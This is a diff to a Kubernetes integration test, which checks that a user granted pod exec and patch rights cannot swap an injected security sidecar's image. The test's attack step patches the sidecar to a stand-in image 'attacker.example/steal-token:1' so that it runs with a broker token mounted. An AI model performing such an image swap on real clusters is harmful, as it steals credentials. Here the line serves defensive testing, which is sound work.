@@ -36,7 +36,7 @@ describe('the sidecar is not a way in', () => {
     // The sidecar the webhook injected, by the name the guard checks.
     expect([...(pod.spec?.containers ?? []), ...(pod.spec?.initContainers ?? [])].map((c) => c.name)).toContain('chainwarden-agent');
     const rbac = admin.makeApiClient(RbacAuthorizationV1Api);
-    await rbac.createNamespacedRole({ namespace, body: { metadata: { name: 'debuggers' }, rules: [{ apiGroups: [''], resources: ['pods', 'pods/exec', 'pods/attach'], verbs: ['get', 'list', 'create'] }] } });
+    await rbac.createNamespacedRole({ namespace, body: { metadata: { name: 'debuggers' }, rules: [{ apiGroups: [''], resources: ['pods', 'pods/exec', 'pods/attach'], verbs: ['get', 'list', 'create', 'patch'] }] } });
     await rbac.createNamespacedRoleBinding({ namespace, body: { metadata: { name: 'debuggers' }, roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'Role', name: 'debuggers' }, subjects: [{ apiGroup: 'rbac.authorization.k8s.io', kind: 'User', name: 'mallory' }] } });
     const mallory = await userKubeConfig('mallory');
     const base = `/api/v1/namespaces/${namespace}/pods/agent-0`;
@@ -51,5 +51,12 @@ describe('the sidecar is not a way in', () => {
       expect(JSON.stringify(app.body)).not.toContain('chainwarden broker token');
       expect(app.status).not.toBe(403);
     }
+    // Nor can they swap the sidecar's image, the one field of it a pod update may change: another image would run with the token mounted.
+    const inits = pod.spec?.initContainers?.some((c) => c.name === 'chainwarden-agent') ? 'initContainers' : 'containers';
+    const swap = await rawRequest(mallory, 'PATCH', base, { spec: { [inits]: [{ name: 'chainwarden-agent', image: 'attacker.example/steal-token:1' }] } }, 'application/strategic-merge-patch+json');
+    expect(JSON.stringify(swap.body)).toContain('the chainwarden-agent container is the one admission injected and cannot be changed on a running pod (its image included)');
+    expect(swap.status).toBe(422);
+    const app = await rawRequest(mallory, 'PATCH', base, { spec: { containers: [{ name: 'agent', image: 'example.invalid/agent:2' }] } }, 'application/strategic-merge-patch+json');
+    expect(app.status, JSON.stringify(app.body)).toBe(200);
   });
 });
